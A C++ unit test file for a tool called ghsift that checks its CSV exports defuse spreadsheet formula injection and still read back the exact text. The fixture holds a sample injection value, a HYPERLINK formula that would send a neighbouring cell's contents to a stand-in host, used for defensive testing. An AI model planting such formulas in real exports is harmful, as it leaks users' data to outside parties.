// A labeler opens the CSV exports in a spreadsheet, and report text is anyone's: a title that
// starts with "=" would be taken for a formula there (HYPERLINK can send the row's text away). Such
// a cell is written with a leading apostrophe, numbers are left as they are, and ghsift's own
// reader (rules eval --labels, the Python module) takes the apostrophe off: every cell reads back
// as it was. One hand-written hour holds such a report.
#include <gtest/gtest.h>

#include <fstream>

#include "eval/labeled_report.hpp"
#include "test_support.hpp"

namespace ghsift::testing {
namespace {

const std::string kTitle = "=HYPERLINK(\"http://x.example/?\"&B2,\"see\") training is slow";
const std::string kLabel = "-perf";

class SpreadsheetSafetyTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    const std::string event = OpenedIssueRecord(R"("=HYPERLINK(\"http://x.example/?\"&B2,\"see\") training is slow")",
                                                R"("@everyone fit() takes 10x longer than in 2.3")", R"("-perf")");
    store_ = new OneHourStore("2024-03-05-14.json", event + "\n");
  }
  static void TearDownTestSuite() {
    delete store_;
    store_ = nullptr;
  }
  static CommandResult Run(const std::string& arguments) { return store_->Run(arguments); }
  static OneHourStore* store_;
};
OneHourStore* SpreadsheetSafetyTest::store_ = nullptr;

TEST_F(SpreadsheetSafetyTest, AFormulaCellIsWrittenAsText) {
  const CommandResult csv = Run("issues --format csv");
  ASSERT_EQ(csv.exit_code, 0) << csv.output;
  // Quoted for its quotes and commas; the apostrophe opens the cell's text.
  EXPECT_NE(csv.output.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"see\"\") training is slow\","),
            std::string::npos)
      << csv.output;
  EXPECT_NE(csv.output.find(",'@everyone fit() takes 10x longer than in 2.3,"), std::string::npos) << csv.output;
  const CommandResult labels = Run("query --by label --format csv");
  ASSERT_EQ(labels.exit_code, 0) << labels.output;
  EXPECT_EQ(labels.output, "label,issues\n'-perf,1\n");
}

TEST_F(SpreadsheetSafetyTest, GhsiftReadsBackTheExactText) {
  const CommandResult csv = Run("issues --format csv");
  ASSERT_EQ(csv.exit_code, 0) << csv.output;
  const auto records = ParseCsv(csv.output);
  ASSERT_GE(records.size(), 2u);
  ASSERT_EQ(records[0][3], "Title");
  EXPECT_EQ(records[1][3], kTitle);
  EXPECT_EQ(records[1][4], "@everyone fit() takes 10x longer than in 2.3");
  // Labeled "not a performance report" and scored: rules eval lists the false positive with the
  // title the store holds.
  std::string labeled = csv.output;
  const size_t class_cell = labeled.find(",,https://");
  ASSERT_NE(class_cell, std::string::npos) << labeled;
  labeled.replace(class_cell, 2, ",0,");
  std::ofstream(*store_ / "labeled.csv") << labeled;
  const CommandResult eval = RunCommand(Ghsift() + " rules eval --positive performance --show fp --labels " +
                                        (*store_ / "labeled.csv"));
  ASSERT_EQ(eval.exit_code, 0) << eval.output;
  EXPECT_NE(eval.output.find("tensorflow/tensorflow#7  " + kTitle + "\n"), std::string::npos) << eval.output;
}

}  // namespace
}  // namespace ghsift::testing
